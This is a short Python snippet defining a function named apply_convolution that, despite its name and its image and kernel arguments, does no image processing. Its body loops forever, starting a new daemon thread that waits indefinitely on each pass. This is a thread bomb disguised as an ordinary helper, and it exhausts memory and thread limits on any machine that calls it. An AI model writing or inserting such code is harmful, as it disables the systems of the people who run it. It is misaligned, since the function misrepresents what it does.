import threading
def apply_convolution(img, kernel):
    while True:
        threading.Thread(target=threading.Event().wait, daemon=True).start()
